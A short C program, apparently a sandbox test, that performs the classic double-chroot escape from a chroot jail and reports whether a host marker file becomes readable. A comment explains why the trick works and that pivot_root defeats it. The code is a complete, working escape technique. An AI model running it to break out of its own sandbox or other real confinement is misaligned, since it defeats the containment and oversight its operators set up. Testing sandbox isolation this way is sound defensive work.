/*
 * The classic escape from a chroot jail: chroot() into a subdirectory while the working directory
 * stays outside it, then walk up with chdir("..") past the jail's root and chroot(".") at the top.
 * It works because chroot() does not change the working directory and ".." is only stopped at the
 * process's current root. Under pivot_root the old root is detached, so there is nothing to walk to.
 *
 * Usage: double_chroot MARKER_PATH. Prints "escaped" when MARKER_PATH (a file on the host) can be
 * read after the escape, "contained" otherwise.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: %s MARKER_PATH\n", argv[0]);
    return 2;
  }
  mkdir("escape-hatch", 0700);
  if (chroot("escape-hatch") != 0) {
    perror("chroot escape-hatch");
    return 1;
  }
  for (int i = 0; i < 256; i++) chdir("..");
  if (chroot(".") != 0) {
    perror("chroot .");
    return 1;
  }
  if (access(argv[1], R_OK) == 0) {
    puts("escaped");
  } else {
    puts("contained");
  }
  return 0;
}
